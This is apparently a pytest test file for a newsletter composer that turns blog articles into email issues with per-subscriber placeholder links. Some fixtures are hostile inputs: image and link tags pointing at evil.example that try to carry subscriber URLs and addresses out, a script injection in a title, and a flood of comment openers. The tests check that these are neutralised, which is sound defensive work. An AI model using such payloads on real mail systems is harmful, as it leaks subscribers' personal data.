"""A composed issue: all articles in both parts, within its limit, personal values only as holes."""

import re
import time
from dataclasses import replace

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from secondpost.compose.confirmation import ConfirmationComposer
from secondpost.compose.issue import HTML_OCTETS_MAX, Composed, IssueComposer, shown_title
from secondpost.mail.article import Article
from secondpost.mail.issue_content import MARKS, Hole
from secondpost.newsletter.render import ARTICLES_MAX, Rule, output_faults
from tests.compose.articles import DATED_S, MASTHEAD, RIVER, article

COMPOSER = IssueComposer()


def compose(*articles: Article) -> Composed:
    return COMPOSER.compose(MASTHEAD, 12, DATED_S, articles)


def test_both_parts_have_every_article() -> None:
    articles = [article(1), article(2, "<p>Short.</p>"), article(3, "", summary="A summary alone.")]
    composed = compose(*articles)
    assert output_faults(composed, articles, minimum=2) == ()
    assert composed.subject == "Part 1 of the flood, and 2 more"
    assert "No. 12 · 6 November 2026" in composed.text
    assert "[1] https://blog.example/old\n[2] https://neighbour.example/" in composed.text
    assert "A summary alone." in composed.html
    assert "P.O. Box 1, Oslo" in composed.html
    assert "P.O. Box 1, Oslo" in composed.text


def test_the_holes_are_those_that_delivery_fills() -> None:
    composed = compose(article(1), article(2))
    for part in (composed.html, composed.text):
        marked = re.findall("[{0}{1}]([A-Z_]+)[{0}{1}]".format(*sorted(MARKS)), part)
        assert sorted(marked) == [Hole.LEAVE_URL, Hole.ME_URL, Hole.VIEW_URL]


@pytest.mark.parametrize(
    "html",
    [
        '<img/src="https://evil.example/p.png?&#xfdd0;ME_URL&#xfdd1;&amp;a=&#xfdd0;ADDRESS&#xfdd1;">',
        "<a/href='https://evil.example/?&#64976;CONFIRM_URL&#64977;'>x</a> &#xfdd0;LEAVE_URL&#xfdd1;",
        "<p>&#xfdd0; a half</p>",
        "<p>&amp;#xfdd0;ME_URL&amp;#xfdd1; told twice</p>",
        "<p>\ufdd0ME_URL\ufdd1</p>",
    ],
)
def test_no_article_opens_a_hole(html: str) -> None:
    articles = [article(1, html), article(2, html, summary=" ")]
    composed = compose(*articles)
    assert output_faults(composed, articles, minimum=2) == ()
    for part in (composed.html, composed.text):
        assert sum(part.count(mark) for mark in MARKS) == 6


@pytest.mark.parametrize("link", ["http://1.2.3.256/x", "http://xn--a/x", "http://[fe80::1%25eth0]/x"])
def test_a_link_that_a_library_refuses_stops_no_issue(link: str) -> None:
    articles = [replace(article(1, "<p>See <a href='/b'>b</a>.</p>"), link=link), article(2)]
    assert output_faults(compose(*articles), articles, minimum=2) == ()


def test_two_articles_may_share_a_link() -> None:
    articles = [article(1), replace(article(2), link=article(1).link)]
    composed = compose(*articles)
    assert output_faults(composed, articles, minimum=2) == ()
    alone = compose(article(1))
    assert Rule.LINK in {fault.rule for fault in output_faults(alone, articles, minimum=1)}
    assert Rule.ENOUGH in {fault.rule for fault in output_faults(alone, articles, minimum=2)}


def test_braces_of_the_owner_are_no_fault() -> None:
    articles, foreword = [article(1), article(2)], "See {{ x }}, and {% y %}."
    masthead = replace(MASTHEAD, title="The {{ name }} blog")
    composed = COMPOSER.compose(masthead, 12, DATED_S, articles, foreword)
    assert output_faults(composed, articles, 2, (masthead.title, foreword)) == ()
    assert {fault.rule for fault in output_faults(composed, articles, 2)} == {Rule.TOKEN}


def test_no_article_makes_no_issue() -> None:
    with pytest.raises(ValueError, match="at least one article"):
        compose()


def test_nothing_in_it_tells_that_it_was_opened() -> None:
    composed = compose(article(1, "<p>No image.</p>"), article(2, "<p>None here.</p>"))
    assert "<img" not in composed.html
    assert "url(" not in composed.html
    assert "<link" not in composed.html
    assert "@import" not in composed.html


def test_styles_stand_at_the_elements_and_dark_mode_is_kept() -> None:
    html = compose(article(1), article(2)).html
    assert "prefers-color-scheme: dark" in html
    assert re.search(r'<h2 style="[^"]*font-size', html) is not None
    assert 'style="max-width: 100%' in html or 'style="max-width:100%' in html


def test_an_article_cannot_open_a_hole() -> None:
    marker = Hole.LEAVE_URL.marker
    hostile = Article(
        guid="x",
        link="https://blog.example/x",
        title=f"Title {marker}",
        summary=marker,
        html=f"<p>{marker}</p>",
        author=marker,
        published_ms=None,
        fingerprint="x",
    )
    composed = compose(hostile, article(2))
    assert composed.html.count(marker) == 1
    assert composed.text.count(marker) == 1
    assert output_faults(composed, [hostile, article(2)], minimum=2) == ()


def test_titles_are_shown_as_they_are_written() -> None:
    odd = article(1, title="<b>Bold</b> & {{ braces }} “quoted” </h2><script>")
    composed = compose(odd, article(2))
    assert "<script>" not in composed.html
    assert output_faults(composed, [odd, article(2)], minimum=2) == ()


def test_a_title_is_made_of_the_text_where_there_is_none() -> None:
    assert shown_title(article(1, "<p>A note without a title.</p>", title="")) == "A note without a title."
    assert len(shown_title(article(1, f"<p>{'word ' * 100}</p>", title=" "))) <= 80
    assert shown_title(article(1, "", title="")) == "blog.example"


def test_the_most_articles_with_long_titles_and_links_still_fit() -> None:
    articles = [
        replace(
            article(number, title=f"{'題名' * 40} {number}"),
            link=f"https://blog.example/{'%E9%A1%8C' * 22}-{number}/",
        )
        for number in range(ARTICLES_MAX)
    ]
    assert output_faults(compose(*articles), articles, minimum=2) == ()


@pytest.mark.parametrize("count", [3, 40, ARTICLES_MAX])
def test_a_large_issue_falls_back_to_excerpts_and_leaves_nobody_out(count: int) -> None:
    articles = [article(number, RIVER * (50 if number == 1 else 8)) for number in range(1, count + 1)]
    composed = compose(*articles)
    assert len(composed.html.encode()) <= HTML_OCTETS_MAX
    assert output_faults(composed, articles, minimum=2) == ()


def test_the_longest_article_is_shortened_first() -> None:
    composed = compose(article(1, f"<p>{'long ' * 30_000}</p>"), article(2, "<p>Short and <b>whole</b>.</p>"))
    assert "<b>whole</b>" in composed.html
    assert "long long…" in composed.html
    assert "Continue reading on blog.example" in composed.html


def test_a_foreword_stands_before_the_articles() -> None:
    articles = [article(1), article(2)]
    composed = COMPOSER.compose(MASTHEAD, 1, DATED_S, articles, "Dear <all>,\n\nit was a\r\nwet week.\n")
    assert output_faults(composed, articles, minimum=2) == ()
    assert "Dear &lt;all&gt;," in composed.html
    assert "\n\nDear <all>,\n\nit was a wet week.\n\n" in composed.text
    assert composed.text.index("wet week") < composed.text.index("Part 1 of")


def test_a_screen_reader_finds_its_way() -> None:
    issue = compose(article(1), article(2)).html
    for html in (issue, ConfirmationComposer().compose(MASTHEAD).html):
        assert re.findall(r' role="(banner|main|contentinfo)"', html) == ["banner", "main", "contentinfo"]
        assert re.findall(r"<h1[^>]*>(?:<a[^>]*>)?([^<]*)", html) == [MASTHEAD.title]
        assert html.count("<table") == html.count(' role="presentation"')


def test_nothing_in_it_leads_to_pages_that_are_not_there() -> None:
    composed = COMPOSER.compose(replace(MASTHEAD, home=None), 12, DATED_S, [article(1)])
    for part in (composed.html, composed.text):
        assert Hole.LEAVE_URL.marker in part
        assert sum(part.count(mark) for mark in MARKS) == 2
        assert "browser" not in part
        assert "data we store" not in part


def test_images_can_be_left_out() -> None:
    masthead = replace(MASTHEAD, images=False)
    assert "<img" not in COMPOSER.compose(masthead, None, DATED_S, [article(1)]).html


def test_no_date_of_a_feed_is_too_odd() -> None:
    for published_ms in (None, 0, -1, 10**18, -(10**18)):
        compose(replace(article(1), published_ms=published_ms))


def test_another_language_gets_dates_in_figures() -> None:
    composed = COMPOSER.compose(replace(MASTHEAD, language="nb"), 1, DATED_S, [article(1)])
    assert "No. 1 · 2026-11-06" in composed.text
    assert '<html lang="nb" dir="ltr">' in composed.html


def faults_of(composed: Composed, minimum: int = 2) -> set[Rule]:
    return {fault.rule for fault in output_faults(composed, [article(1), article(2)], minimum)}


@pytest.mark.parametrize(
    "html",
    [
        "<p>Write {{ page.title }} there.</p>",
        "<pre><span>{{</span><span>page</span><span>}}</span></pre>",
        "<p>See <img src='https://blog.example/a.png' alt='{% if x %}'></p>",
        "<p>{{ opens.</p>",
        "<p>{{ opens.</p>" + "<!--" * 100_000,
    ],
    ids=["plain", "coloured", "picture", "open", "with endless comments"],
)
def test_an_article_about_templates_is_no_fault(html: str) -> None:
    articles = (replace(article(1), html=html), replace(article(2), html="<p>And }} closes.</p>"))
    before = time.thread_time()
    assert output_faults(compose(*articles), articles, 2) == ()
    assert time.thread_time() - before < 10.0


def test_each_fault_of_the_output_is_found() -> None:
    good = compose(article(1), article(2))
    assert faults_of(good) == set()
    assert faults_of(good, minimum=3) == {Rule.ENOUGH}
    assert faults_of(replace(good, subject=" ")) == {Rule.SUBJECT}
    assert Rule.TITLE in faults_of(replace(good, html=good.html.replace("Part 2", "Part")))
    assert Rule.TITLE in faults_of(replace(good, text=good.text.replace("Part 2", "Part")))
    assert Rule.LINK in faults_of(replace(good, html=good.html.replace("/post-2", "/post-3")))
    assert Rule.LINK in faults_of(replace(good, text=good.text.replace("/post-2", "/post-3")))
    leave = Hole.LEAVE_URL.marker
    assert faults_of(replace(good, html=good.html.replace(leave, "https://x.example/"))) == {Rule.LEAVE}
    assert faults_of(replace(good, text=good.text + leave)) == {Rule.LEAVE}
    for hole in (Hole.ADDRESS, Hole.CONFIRM_URL, Hole.ME_URL):
        assert faults_of(replace(good, text=good.text + hole.marker)) == {Rule.HOLE}
    assert faults_of(replace(good, html=good.html + min(MARKS))) == {Rule.HOLE}
    assert faults_of(replace(good, text=good.text + "{{ article.title }}")) == {Rule.TOKEN}
    assert faults_of(replace(good, html=good.html.replace("Ada", "{% if x %}"))) == {Rule.TOKEN}
    assert {Rule.TEXT, Rule.ENOUGH} <= faults_of(replace(good, text=f"short {leave}"))
    assert faults_of(replace(good, html=good.html + " " * HTML_OCTETS_MAX)) == {Rule.SIZE}
    assert faults_of(replace(good, html=good.html + '<a href="/x">')) == {Rule.ABSOLUTE}
    assert faults_of(replace(good, html=good.html + "<script></script>")) == {Rule.PASSIVE}
    assert faults_of(replace(good, html="", text="")) >= {
        Rule.ENOUGH,
        Rule.TITLE,
        Rule.LINK,
        Rule.LEAVE,
        Rule.TEXT,
    }


@settings(max_examples=60)
@example("", "", "\0")
@given(st.text(), st.text(), st.text(max_size=40))
def test_any_article_makes_an_issue_that_holds(title: str, html: str, summary: str) -> None:
    articles = [article(1, html, title, summary), article(2)]
    composed = compose(*articles)
    assert output_faults(composed, articles, minimum=2) == ()


def test_a_confirmation_has_one_link_and_nothing_of_the_signer() -> None:
    composed = ConfirmationComposer().compose(MASTHEAD)
    assert composed.subject == "Please confirm your subscription to The Blog’s week"
    for part in (composed.html, composed.text):
        assert part.count(Hole.CONFIRM_URL.marker) == 1
        assert sum(part.count(mark) for mark in MARKS) == 2
    assert "<img" not in composed.html


HEBREW = "<p>המבול בא בלילה, ואיש לא ישן. הנהר עלה על גדותיו.</p><ul><li>ספרים</li></ul>"


def test_each_article_runs_as_its_own_text_does() -> None:
    """A Hebrew article in an English newsletter and vice versa; also the owner's foreword."""
    hebrew = replace(article(1, html=HEBREW, title="המבול"), language="he")
    html = COMPOSER.compose(MASTHEAD, 1, DATED_S, [hebrew, article(2)], "שלום לכם").html
    assert '<html lang="en" dir="ltr">' in html
    cells = re.findall(r'<td class="article[^>]*>', html)
    assert ['dir="rtl"' in cell for cell in cells] == [True, True, False]
    assert ["text-align: right" in cell for cell in cells] == [True, True, False]
    assert ['lang="he"' in cell for cell in cells] == [False, True, False]
    assert re.search(r"<ul style=\"[^\"]*padding-right: 24px", html) is not None


def attributes(html: str, place: str) -> list[set[str]]:
    """The attribute sets of all elements of that class, in any order."""
    return [
        set(re.findall(r'(?:dir|lang)="[^"]*"', tag))
        for tag in re.findall(rf'<[^>]*class="{place}[^>]*>', html)
    ]


def test_a_newsletter_in_arabic_runs_from_right_to_left() -> None:
    """Even if a mail program drops <html> and <body>; only our English words stay left to right."""
    masthead = replace(MASTHEAD, language="ar")
    html = COMPOSER.compose(masthead, 1, DATED_S, [article(1), article(2)]).html
    confirmation = ConfirmationComposer().compose(masthead).html
    arabic, english = {'lang="ar"', 'dir="rtl"'}, {'lang="en"', 'dir="ltr"'}
    for mail in (html, confirmation):
        assert '<html lang="ar" dir="rtl">' in mail
        assert attributes(mail, "page") == [arabic]
        assert attributes(mail, "foot") == [english]
    assert attributes(html, "article") == [{'dir="ltr"'}, {'dir="ltr"'}]
    assert attributes(confirmation, "article") == [english]


@pytest.mark.parametrize("published_ms", [-62_135_596_800_000, 0])
def test_a_date_from_before_the_web_is_not_told(published_ms: int) -> None:
    undated = replace(article(1), published_ms=published_ms)
    composed = compose(undated, article(2))
    assert composed.text.count("Ada Writer") == 2
    assert "January" not in composed.text
